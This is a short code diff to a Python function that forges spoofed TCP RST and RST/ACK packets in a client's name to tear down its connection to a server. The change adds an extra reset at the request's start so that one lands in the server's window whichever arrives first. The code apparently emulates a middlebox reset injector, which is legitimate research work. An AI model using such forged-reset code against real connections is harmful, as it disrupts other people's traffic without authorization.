@@ -97,10 +97,15 @@ def burst_toward_client(req: Segment, *, ttl: int = BOX_TTL, window: int | None 
 
 
 def burst_toward_server(req: Segment, *, ttl: int = BOX_TTL) -> list[IP]:
-    """In the client's name: a bare RST just after the request, then RST/ACKs at the offsets."""
+    """In the client's name: bare RSTs at the request's start and just after it, then RST/ACKs at
+    the offsets. Released next to the request, a forged packet may overtake it on the way; one
+    of the two bare RSTs is then exactly at the server's next expected sequence number whichever
+    arrives first (the other is out of window and silently dropped, RFC 5961)."""
     server, client = req.dst, req.src
+    before = forged(client, server, req.sport, req.dport, seq=req.seq, flags="R",
+                    window=req.window, ttl=ttl)
     first = forged(client, server, req.sport, req.dport, seq=req.end_seq, flags="R",
                    window=req.window, ttl=ttl)
     rest = [forged(client, server, req.sport, req.dport, seq=req.end_seq + offset, ack=req.ack,
                    flags="RA", window=req.window, ttl=ttl) for offset in INJECTOR_OFFSETS]
-    return [first, *rest]
+    return [before, first, *rest]
